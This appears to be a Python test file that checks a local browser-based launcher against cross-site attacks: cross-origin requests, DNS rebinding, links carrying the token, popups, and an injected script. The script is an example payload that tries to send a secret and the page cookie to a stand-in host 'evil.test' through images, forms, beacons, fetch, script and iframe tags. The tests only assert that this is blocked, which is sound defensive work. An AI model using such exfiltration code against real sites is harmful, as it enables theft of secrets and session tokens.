"""Other sites in the person's own browser, which has been let in: nothing of what they do comes through."""

import time
from dataclasses import dataclass, field

import pytest

from tests.attacker import ATTACKS, other_site
from tests.browser import SIZE_PX, open_window
from tests.patience import PATIENCE_S

ORIGINS = {
    "another port of the same host": "http://127.0.0.1:{port}/",  # the same site to a browser: our cookie comes along
    "another name of the machine": "http://localhost:{port}/",
    "another host": "http://evil.test:{port}/",
    "no origin": "http://evil.test:{port}/sandboxed",
}


@pytest.fixture(scope="module")
def site():
    with other_site() as running:
        yield running


@pytest.fixture
def tab(chromium, window):
    """A tab of a browser that has the launcher's cookie."""
    with chromium.new_context(viewport=SIZE_PX) as context:
        open_window(context.new_page(), window)
        yield context.new_page()


@dataclass
class Traffic:
    """What a tab asked of an origin, whether or not its page may see the answer; preflights too."""

    sent: dict[str, str] = field(default_factory=dict)  # id -> method and address
    with_cookie: set[str] = field(default_factory=set)  # ids
    answers: list[tuple[int, str]] = field(default_factory=list)  # status, method and address


def traffic_of(tab, origin):
    traffic, session = Traffic(), tab.context.new_cdp_session(tab)

    def sent(event):
        if event["request"]["url"].startswith(origin):
            traffic.sent[event["requestId"]] = f"{event['request']['method']} {event['request']['url']}"

    def details(event):
        if any(not each["blockedReasons"] for each in event["associatedCookies"]):
            traffic.with_cookie.add(event["requestId"])

    def answered(event):
        if event["requestId"] in traffic.sent:
            traffic.answers.append((event["statusCode"], traffic.sent[event["requestId"]]))

    session.on("Network.requestWillBeSent", sent)
    session.on("Network.requestWillBeSentExtraInfo", details)
    session.on("Network.responseReceivedExtraInfo", answered)
    session.send("Network.enable")
    return traffic


def until_answered(tab, traffic, number):
    """The beacon and the forms say nothing to their page, so that they may still be under way when all else is done."""
    deadline = time.monotonic() + PATIENCE_S
    while len(traffic.answers) < number:
        assert time.monotonic() < deadline, traffic.answers
        tab.wait_for_timeout(50)  # ms; in which the tab's events arrive


@pytest.mark.parametrize("kind", ORIGINS)
def test_attack_when_another_site_tries_it_then_is_refused(tab, window, site, kind):
    traffic = traffic_of(tab, window.origin)
    tab.goto(ORIGINS[kind].format(port=site.server_port))
    known = tab.evaluate(ATTACKS, window.origin)
    assert {name: text for name, text in known.items() if text} == {}
    until_answered(tab, traffic, 30)  # they did arrive
    assert [answer for answer in traffic.answers if answer[0] not in (401, 403, 404, 405)] == []
    assert bool(traffic.with_cookie) is (kind == "another port of the same host")
    assert window.opened() == []


def test_attacks_when_nobody_guards_then_come_through(tab, site):
    origin = f"http://evil.test:{site.server_port}"
    tab.goto(origin)
    asked = len(site.asked)
    known = tab.evaluate(ATTACKS, origin)
    assert len([text for text in known.values() if text]) >= 8
    assert {"POST /api/open", "POST /gradio_api/component_server", "POST /gradio_api/upload"} <= set(site.asked[asked:])


def test_rebinding_when_another_host_leads_to_the_port_then_is_misdirected(tab, window):
    port = window.origin.rpartition(":")[2]
    for path in ("/", "/?t=guess", f"/?t={window.token}", "/config", "/api/search?q=roof", "/manifest.json"):
        assert tab.goto(f"http://rebind.test:{port}{path}").status == 421
        assert tab.evaluate("fetch('/api/search?q=roof').then((answer) => answer.status)") == 421


@pytest.mark.parametrize("kind", ["another port of the same host", "another host"])
def test_link_when_another_site_leads_to_the_window_then_is_refused(tab, window, site, kind):
    traffic = traffic_of(tab, window.origin)
    tab.goto(ORIGINS[kind].format(port=site.server_port))
    tab.evaluate("(address) => { location = address }", f"{window.origin}/?t={window.token}")
    tab.wait_for_url(f"{window.origin}/**")
    assert tab.locator("body").inner_text() == "Another site may not ask."
    assert traffic.answers[0] == (403, f"GET {window.address}")  # then the browser wants an icon for this page


def test_window_when_another_site_opened_it_then_it_has_no_hold_of_it(tab, window, site):
    tab.goto(ORIGINS["another host"].format(port=site.server_port))
    with tab.expect_popup() as opened:
        tab.evaluate("(address) => { window.popup = open(address) }", window.origin)
    opened.value.wait_for_load_state()
    assert opened.value.locator(".query").count() == 0
    assert tab.evaluate("popup.closed")  # as far as it can see


# What a script could do in our own page, if one got in there.
SENDING = """
async ([other, secret]) => {
  const outcome = (promise) => promise.then(() => "sent", () => "blocked");
  const picture = () => new Promise((resolve, reject) => {
    const made = new Image();
    made.onload = made.onerror = () => reject();
    made.src = `${other}picture?${secret}`;
  });
  const form = Object.assign(document.createElement("form"), { method: "POST", action: `${other}form?${secret}` });
  document.body.append(form);
  form.submit();
  navigator.sendBeacon(`${other}beacon`, secret);
  document.head.append(Object.assign(document.createElement("script"), { src: `${other}script?${secret}` }));
  document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${other}style` }));
  document.body.append(Object.assign(document.createElement("iframe"), { src: `${other}frame?${secret}` }));
  return {
    fetch: await outcome(fetch(`${other}fetch?${secret}`, { mode: "no-cors" })),
    picture: await outcome(picture()),
    token: document.cookie,
  };
}
"""


def test_script_when_it_got_into_the_page_then_can_send_nothing_away_and_knows_no_token(chromium, window, site):
    with chromium.new_context(viewport=SIZE_PX) as context:
        tab, asked = context.new_page(), len(site.asked)
        open_window(tab, window)
        known = tab.evaluate(SENDING, [f"http://evil.test:{site.server_port}/", "secret"])
        tab.wait_for_timeout(500)
        assert known == {"fetch": "blocked", "picture": "blocked", "token": ""}
        assert tab.locator(".query").count() == 1
    assert site.asked[asked:] == []
